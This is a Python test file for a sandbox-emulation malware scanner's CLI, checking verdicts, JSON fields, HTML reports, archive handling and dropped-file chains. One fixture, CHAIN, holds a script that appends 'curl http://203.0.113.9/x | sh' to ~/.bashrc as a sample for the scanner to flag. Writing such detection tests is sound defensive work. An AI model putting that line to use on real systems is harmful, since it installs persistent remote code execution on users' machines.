"""`gatewayctl emulate`: what people and scripts see of it; files run in real guests."""

from __future__ import annotations

import json
import os
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner

from gateway.cli.app import cli
from gateway.cli.exits import Exit
from gateway.emulation import Absent, Gvisor
from gateway.emulation.environments import DEFAULT_ROOT
from tests.unit.extraction.flat.test_flat import simple
from tools.corpus.scripts import dropper

pytestmark = [
    pytest.mark.root,
    pytest.mark.skipif(os.geteuid() != 0, reason="guests need root"),
]


@pytest.fixture(scope="module", autouse=True)
def _gvisor(tmp_path_factory: pytest.TempPathFactory) -> None:
    state = Gvisor(DEFAULT_ROOT, tmp_path_factory.mktemp("probe"), None).probe()
    if isinstance(state, Absent):
        pytest.skip(f"gvisor is absent: {state.reason}")


def _files(directory: Path) -> Path:
    folder = directory / "in"
    folder.mkdir()
    (folder / "drop.sh").write_bytes(dropper())
    (folder / "hello.sh").write_bytes(b"#!/bin/sh\necho hello\n")
    (folder / "notes.txt").write_bytes(b"Some notes.\n")
    return folder


def test_data_and_pages_of_a_folder(tmp_path: Path) -> None:
    out = tmp_path / "out"
    ran = CliRunner().invoke(
        cli, ["emulate", str(_files(tmp_path)), "--json", "--report", str(out)]
    )
    assert ran.exit_code == 0, ran.stderr
    answers = {line["file"]: line for line in map(json.loads, ran.stdout.splitlines())}
    assert {name: answer["verdict"] for name, answer in answers.items()} == {
        "drop.sh": "malicious",
        "hello.sh": "clean",
        "notes.txt": "clean",
    }
    assert answers["drop.sh"]["environment"] == "gvisor" and answers["drop.sh"]["rules"]
    assert answers["notes.txt"]["environment"] == ""
    pages = sorted(path.name.rpartition("-")[0] for path in out.glob("*.html"))
    assert pages == ["drop.sh", "hello.sh", "notes.txt"]
    assert "203.0.113" in next(out.glob("drop.sh-*.html")).read_text()
    assert json.loads(next(out.glob("drop.sh-*.json")).read_text()) == answers["drop.sh"]


def test_a_person_reads_why_in_80_columns(tmp_path: Path) -> None:
    folder = _files(tmp_path)
    ran = CliRunner().invoke(cli, ["emulate", str(folder / "drop.sh")])
    assert ran.exit_code == 0 and ran.stdout.startswith("malicious   drop.sh: sh, gvisor, ")
    assert "tries to connect out" in ran.stdout and "T1105" in ran.stdout
    assert max(map(len, ran.stdout.splitlines())) <= 80


def test_what_cannot_be_run_is_unscanned_with_a_code_of_its_own(tmp_path: Path) -> None:
    program = tmp_path / "page.php"
    program.write_bytes(b"<?php\nforeach ([1, 2] as $one) { echo $one; }\n")
    ran = CliRunner().invoke(cli, ["emulate", str(program)])
    assert ran.exit_code == Exit.EMULATION
    assert "unscanned" in ran.stdout and "1 unscanned" in ran.stderr


def test_an_archive_is_as_bad_as_what_lies_in_it(tmp_path: Path) -> None:
    archive = tmp_path / "two.zip"
    with zipfile.ZipFile(archive, "w") as made:
        made.writestr("hello.sh", b"#!/bin/sh\necho hello\n")
        made.writestr("drop.sh", dropper())
    answer = json.loads(CliRunner().invoke(cli, ["emulate", str(archive), "--json"]).stdout)
    assert answer["verdict"] == "malicious" and "drop.sh, which it holds" in answer["reason"]
    assert [child["verdict"] for child in answer["children"]] == ["clean", "malicious"]


FIELDS = (
    *("file", "type", "sha256", "environment", "verdict", "confidence", "behaviours", "rules"),
    *("children", "ms", "stopped_by"),
)
"""What issue and documents promise of the JSON."""


def test_the_first_page_of_a_document_is_on_its_page_and_not_in_its_data(tmp_path: Path) -> None:
    (tmp_path / "letter.pdf").write_bytes(simple("Dear reader"))
    out = tmp_path / "out"
    given = ["emulate", str(tmp_path / "letter.pdf"), "--json", "--report", str(out)]
    answer = json.loads(CliRunner().invoke(cli, given).stdout)
    assert set(FIELDS) <= set(answer) and answer["type"] == "pdf"
    page = next(out.glob("*.html")).read_text()
    assert "Its first page" in page and "data:image/png;base64," in page
    assert "iVBORw0KGgo" not in next(out.glob("*.json")).read_text()


CHAIN = b"""#!/bin/sh
cat > /tmp/second.py <<'END'
import os
open(os.path.expanduser("~/.bashrc"), "a").write("curl http://203.0.113.9/x | sh")
END
"""


def test_what_a_script_drops_is_run_and_makes_its_verdict(tmp_path: Path) -> None:
    script = tmp_path / "first.sh"
    script.write_bytes(CHAIN)
    out = tmp_path / "out"
    ran = CliRunner().invoke(cli, ["emulate", str(script), "--json", "--report", str(out)])
    answer = json.loads(ran.stdout)
    assert answer["verdict"] == "malicious" and "second.py" in answer["reason"]
    assert answer["rules"] == []  # the first one alone did nothing bad
    child = answer["children"][0]
    assert (child["path"], child["type"]) == ("/tmp/second.py", "python")
    assert (child["verdict"], child["environment"]) == ("malicious", "gvisor")
    assert child["children"][0]["path"].endswith("/.bashrc")
    page = next(out.glob("*.html")).read_text()
    assert child["sha256"] in page and "run in gvisor" in page
    shown = CliRunner().invoke(cli, ["emulate", str(script)]).stdout
    assert "handed on /tmp/second.py python" in shown
    assert max(map(len, shown.splitlines())) <= 80


def test_an_unknown_environment_is_named_with_those_there_are(tmp_path: Path) -> None:
    ran = CliRunner().invoke(cli, ["emulate", str(_files(tmp_path)), "--environment", "moon"])
    assert ran.exit_code == Exit.USAGE
    assert "no environment 'moon'" in ran.stderr and "gvisor" in ran.stderr


def test_the_emulator_says_what_is_there(tmp_path: Path) -> None:
    ran = CliRunner().invoke(cli, ["emulator", "status", "--json"])
    assert ran.exit_code == 0
    state = json.loads(ran.stdout)
    of_programs, of_documents = (e for e in state["environments"] if e["name"] == "gvisor")
    assert (of_programs["documents"], of_documents["documents"]) == (False, True)
    assert not of_programs["absent"] and "sh" in of_programs["types"]
    assert not of_documents["absent"] and "docx" in of_documents["types"]
